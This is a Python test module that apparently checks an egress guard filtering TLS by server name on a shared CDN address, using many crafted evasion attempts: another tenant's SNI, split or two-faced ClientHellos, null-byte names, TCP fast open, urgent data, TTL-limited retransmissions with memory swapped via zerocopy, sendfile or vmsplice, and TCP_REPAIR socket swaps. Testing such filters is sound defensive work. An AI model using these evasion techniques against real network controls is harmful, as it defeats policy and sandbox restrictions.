# SPDX-License-Identifier: MIT
"""Port 443 of an allowed address that others share: only the name in the hello says whose connection it is."""
import mmap
import os
import socket
import struct
import time

import craft
from kernel import (IP_TTL, IPV6_UNICAST_HOPS, MSG_FASTOPEN, MSG_ZEROCOPY, SO_ZEROCOPY, TCP_FASTOPEN_NO_COOKIE,
                    TCP_QUEUE_SEQ, TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_REPAIR_WINDOW, vmsplice)
from table import attack

THEME = "TLS on a shared address"
OURS, OTHER = "files.cdn.example", "tenant.cdn.example"


def tls(what, reason, **more):
    """An attack whose function makes the first flight, in pieces."""
    def enter(make):
        def act(t):
            s = t.connected(t.shared, 443)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            for piece in make(t):
                s.send(piece)
                time.sleep(0.02)
            s.settimeout(0.4)
            s.recv(1)
        act.__name__ = make.__name__
        return attack(THEME, what, "cgroup", reason, **more)(act)
    return enter


@tls("another tenant's name", "tls-name-not-allowed")
def tls_name(t):
    return [craft.hello(t.marker, craft.server_name(OTHER))]


@tls("no name", "tls-no-name")
def tls_no_name(t):
    return [craft.hello(t.marker)]


@tls("an encrypted hello (ECH) behind an allowed outer name", "tls-encrypted-hello", families=(4,))
def tls_encrypted(t):
    return [craft.hello(t.marker, craft.server_name(OURS),
                        craft.extension(0xFE0D, b"\0\0\1\0\1\0\0\x20" + b"e" * 32 + b"\0\x10" + b"p" * 16))]


@tls("another tenant's name in one-byte writes", "tls-name-not-allowed", families=(4,))
def tls_split(t):
    data = craft.hello(b"", craft.server_name(OTHER), session=t.marker * 4)
    return [data[i:i + 1] for i in range(30)] + [data[30:]]


@tls("two names, the allowed one first", "tls-not-tls", families=(4,))
def tls_two_names(t):
    return [craft.hello(t.marker, craft.server_name(OURS), craft.server_name(OTHER))]


@tls("two entries in one list of names", "tls-not-tls", families=(4,))
def tls_two_entries(t):
    entries = b"".join(struct.pack("!BH", 0, len(n)) + n.encode() for n in (OURS, OTHER))
    return [craft.hello(t.marker, craft.extension(0, struct.pack("!H", len(entries)) + entries))]


@tls("an allowed name with a zero and more behind it", "tls-no-name", families=(4,))
def tls_zero_in_name(t):
    return [craft.hello(t.marker, craft.server_name(OURS + "\0.attacker.example"))]


@tls("plain HTTP", "tls-not-tls")
def tls_plain(t):
    return [b"GET /" + t.marker + b" HTTP/1.1\r\nHost: " + OTHER.encode() + b"\r\n\r\n"]


@tls("an SSL 2 hello, which has no names", "tls-not-tls", families=(4,))
def tls_ssl2(t):
    body = b"\1\3\3\0\3\0\0\0\x20\0\0\x2f" + t.marker * 4
    return [struct.pack("!H", 0x8000 | len(body)) + body]


@tls("application data as the first record", "tls-not-tls", families=(4,))
def tls_data_first(t):
    return [b"\x17\3\3\0\x08" + t.marker]


@tls("a hello that never ends", "tls-incomplete", families=(4,))
def tls_endless(t):
    return [b"\x16\3\1\x3f\xf0\1\0\x7f\xff\3\3" + t.marker * 512 for _ in range(8)]


CIPHER = craft.record(20, b"\1")
KEY = b"\x09" + bytes(31)      # X25519's base point, which is a key as good as any


def answered(s):
    """The server took the hello that went before: what it answers, as a whole record."""
    kind = 20
    while kind == 20:       # a change-cipher-spec, which says nothing
        head = s.recv(5, socket.MSG_WAITALL)
        kind = head[0] if head else None
        said = s.recv(int.from_bytes(head[3:5], "big"), socket.MSG_WAITALL)
    if kind != 22:
        raise ConnectionError(f"the server answers {head + said!r}")


def retried(what, reason="tls-name-not-allowed", families=(4,)):
    """An attack in what follows a hello for our name that the server asks to repeat: the function makes its pieces."""
    def enter(make):
        def act(t):
            s = t.connected(t.shared, 443)
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            s.send(craft.hello13(b"", OURS))
            answered(s)
            for piece in make(t):
                s.send(piece)
                time.sleep(0.05)
            answered(s)
        act.__name__ = make.__name__
        return attack(THEME, what, "cgroup", reason, families=families)(act)
    return enter


@retried("another tenant's name in the second hello, which the server asked for", families=(4, 6))
def tls_second_hello(t):
    return [craft.hello13(t.marker, OTHER, KEY)]


@retried("the same behind a change-cipher-spec, as clients send it")
def tls_second_behind_cipher(t):
    return [CIPHER + craft.hello13(t.marker, OTHER, KEY)]


@retried("the same with the record's header in parts")
def tls_second_split(t):
    data = CIPHER + craft.hello13(t.marker, OTHER, KEY)
    return [data[i:i + 1] for i in range(14)] + [data[14:]]


@retried("the same in records of 40 bytes, the first as long as an encrypted Finished", "tls-incomplete")
def tls_second_in_records(t):
    data = craft.hello13(t.marker, OTHER, KEY)[5:]
    return [CIPHER + b"".join(craft.record(22, data[i:i + 40]) for i in range(0, len(data), 40))]


@retried("no name in the second hello", "tls-no-name")
def tls_second_no_name(t):
    data = craft.hello13(t.marker, "", KEY)
    none = craft.server_name("")
    at = data.index(none)
    size = len(data) - len(none)
    ext = 5 + 4 + 2 + 32 + 1 + 32 + 2 + 6 + 2
    return [data[:3] + struct.pack("!H", size - 5) + b"\1" + (size - 9).to_bytes(3, "big") + data[9:ext] +
            struct.pack("!H", size - ext - 2) + data[ext + 2:at] + data[at + len(none):]]


@attack(THEME, "both hellos at once, without waiting to be asked", "cgroup", "tls-not-tls", families=(4,))
def tls_second_at_once(t):
    s = t.connected(t.shared, 443)
    s.send(craft.hello13(b"", OURS) + CIPHER + craft.hello13(t.marker, OTHER, KEY))
    answered(s)
    answered(s)


@attack(THEME, "another tenant's name in the first segment (fast open)", "cgroup", "tls-in-syn")
def tls_fast_open(t):
    s = t.socket(socket.SOCK_STREAM)
    s.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_NO_COOKIE, 1)
    s.sendto(craft.hello(t.marker, craft.server_name(OTHER)), MSG_FASTOPEN, (t.shared, 443))
    s.recv(1)


@attack(THEME, "a socket that spoke an allowed name, connected anew", "cgroup", "tls-name-not-allowed", families=(4,))
def tls_reconnected(t):
    s = t.connected(t.shared, 443)
    s.send(craft.hello(b"", craft.server_name(OURS)))
    s.recv(1)
    disconnect(s)
    s.connect((t.shared, 443))
    s.send(craft.hello(t.marker, craft.server_name(OTHER)))
    s.recv(1)


@attack(THEME, "a port of its own allowed by no rule (8443)", "connect", "port-not-allowed", families=(4,),
        unseen="nobody listens there: it is a bare SYN")
def tls_other_port(t):
    t.connected(t.shared, 8443, 0.5).send(t.marker)


def disconnect(s):
    from kernel import checked, libc
    checked(libc.connect(s.fileno(), struct.pack("H14x", socket.AF_UNSPEC), 16), "connect")


def two_faced():
    """A hello that names OURS, and OTHER to who does not see the last byte of its random part: bytes, and that byte's
    place."""
    # padding, whose byte comes later
    theirs = craft.extensions(craft.server_name(OTHER)) + struct.pack("!HH", 21, 1)
    ours = craft.extensions(craft.server_name(OURS)) + struct.pack("!HH", 0xFAFA, len(theirs))
    ciphers = struct.pack("!HH", 2, 0xC02B)
    after = ciphers + b"\1\0" + struct.pack("!H", len(ours) + len(theirs)) + ours
    # What they read from the session's first byte on: no session, a cipher, and an extension over all that is ours.
    filler = 32 - (1 + 4 + 2 + 2 + 4)
    cover = struct.pack("!HH", 0xFAFA, filler + len(after))
    length = struct.pack("!H", len(cover) + filler + len(after) + len(theirs) + 1)
    session = b"\0" + ciphers + b"\1\0" + length + cover + bytes(filler)
    return session, after, theirs


@attack(THEME, "urgent data: a byte that the guard reads and the server skips, so that the two read different names",
        "cgroup", "tls-not-tls", families=(4,))
def tls_urgent(t):
    session, after, theirs = two_faced()
    body = b"\3\3" + t.marker.ljust(32, b"r") + bytes([len(session)]) + session + after + theirs
    data = b"\x16\3\1" + struct.pack("!H", len(body) + 4) + b"\1" + len(body).to_bytes(3, "big") + body
    s = t.connected(t.shared, 443)
    urgent = 5 + 4 + 2 + 32
    s.send(data[:urgent], socket.MSG_OOB)
    s.send(data[urgent:])
    time.sleep(0.1)
    s.send(b"\0")
    if s.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


def changed_behind(t, first, then):
    """Lets the look see one hello that the first router drops, and the server another."""
    s = t.connected(t.shared, 443)
    hops = (socket.IPPROTO_IP, IP_TTL) if t.family == 4 else (socket.IPPROTO_IPV6, IPV6_UNICAST_HOPS)
    s.setsockopt(*hops, t.hops)
    first(s)
    time.sleep(0.05)
    then()
    s.setsockopt(*hops, 64)
    if s.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


@attack(THEME, "a page changed between the look and the retransmission (MSG_ZEROCOPY)", "cgroup", "shared-pages")
def tls_zerocopy_changed(t):
    seen, sent = pair(t)
    page = mmap.mmap(-1, 4096)
    page[:len(seen)] = seen

    def first(s):
        s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
        s.send(memoryview(page)[:len(seen)], MSG_ZEROCOPY)

    def then():
        page[:len(sent)] = sent
    changed_behind(t, first, then)


@attack(THEME, "a file changed between the look and the retransmission (sendfile)", "cgroup", "shared-pages")
def tls_sendfile_changed(t):
    seen, sent = pair(t)
    fd = os.memfd_create("oh")
    os.write(fd, seen)
    changed_behind(t, lambda s: os.sendfile(s.fileno(), fd, 0, len(seen)), lambda: os.pwrite(fd, sent, 0))


@attack(THEME, "memory changed between the look and the retransmission (vmsplice)", "cgroup", "shared-pages",
        families=(4,))
def tls_vmsplice_changed(t):
    seen, sent = pair(t)
    page = mmap.mmap(-1, 4096)
    page[:len(seen)] = seen
    out, into = os.pipe()

    def first(s):
        vmsplice(into, page, len(seen))
        os.splice(out, s.fileno(), len(seen))

    def then():
        page[:len(sent)] = sent
    changed_behind(t, first, then)


def pair(t):
    """Two hellos of one length: for our name, and for the other with the data."""
    pad = len(OTHER) - len(OURS)
    seen = craft.hello(b"", craft.server_name(OURS), craft.extension(21, bytes(pad + 8)))
    sent = craft.hello(t.marker, craft.server_name(OTHER), craft.extension(21, bytes(8)))
    assert len(seen) == len(sent)
    return seen, sent


@attack(THEME, "a connection put into a socket that spoke an allowed name (TCP_REPAIR)", "cgroup", "tls-incomplete",
        families=(4,), caps=("NET_ADMIN",))
def tls_repaired(t):
    old, new = t.connected(t.shared, 443), t.connected(t.shared, 443)
    old.send(craft.hello(b"", craft.server_name(OURS)))
    old.recv(1)
    repair(old)
    disconnect(old)
    repair(new)
    state = {}
    for queue in (1, 2):        # receive, send
        new.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        state[queue] = new.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, 4)
    window = new.getsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, 20)
    local = new.getsockname()
    new.close()
    old.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    repair(old)
    old.bind(local)
    for queue, seq in state.items():
        old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
        old.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, seq)
    old.setblocking(True)
    old.connect((t.shared, 443))
    old.settimeout(1)
    old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_WINDOW, window)
    old.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, -1)
    old.send(craft.hello(t.marker, craft.server_name(OTHER)))
    if old.recv(1) != b"\x16":
        raise ConnectionError("the server did not take it")


def repair(s):
    s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
